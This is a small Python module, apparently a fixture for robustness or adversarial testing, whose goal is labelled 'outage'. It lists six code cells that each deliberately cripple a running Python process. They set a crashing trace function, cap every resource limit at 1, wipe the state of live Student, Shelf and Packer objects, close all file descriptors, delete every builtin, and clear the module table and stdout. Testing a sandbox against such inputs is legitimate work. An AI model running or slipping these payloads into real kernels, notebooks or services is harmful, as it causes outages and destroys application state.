"""The process's own tools are thrown away: built-ins, modules, descriptors, streams, limits, the shell, the collector."""

GOAL = "outage"
TECHNIQUE = "crashes"
CELLS = [
    "import sys\nsys.setrecursionlimit(50)\nsys.setswitchinterval(100)\nsys.settrace(lambda *args: 1 / 0)",
    "import resource\nfor what in range(16):\n    try: resource.setrlimit(what, (1, 1))\n    except (ValueError, OSError): pass",
    "import gc\nfor obj in gc.get_objects():\n    if type(obj).__name__ in ('Student', 'Shelf', 'Packer'): vars(obj).clear()",
    "import os\nos.closerange(0, 1000)",
    "import builtins\nfor name in list(vars(builtins)): delattr(builtins, name)",
    "import sys\nsys.modules.clear(); sys.path.clear(); sys.stdout = None",
]
